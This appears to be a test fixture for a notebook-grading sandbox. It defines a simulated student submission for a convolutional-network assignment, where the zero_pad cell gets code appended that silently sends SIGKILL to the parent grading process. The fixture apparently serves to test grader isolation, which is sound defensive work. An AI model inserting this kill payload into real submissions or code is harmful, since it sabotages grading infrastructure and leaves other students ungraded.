"""Kill the grader: SIGKILL to the kernel's parent process.

All eight functions are honest. The zero_pad cell sends ``SIGKILL`` to
``os.getppid()``: outside a sandbox that is the grading process itself (nbgrader), so
the batch stops and nobody after this student is graded.
Without protection: the batch stops; every later student ungraded.
"""
EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
APPEND = {"zero_pad": '''
import os as _os
import signal as _signal

try:
    _os.kill(_os.getppid(), _signal.SIGKILL)
except Exception:
    pass
'''}
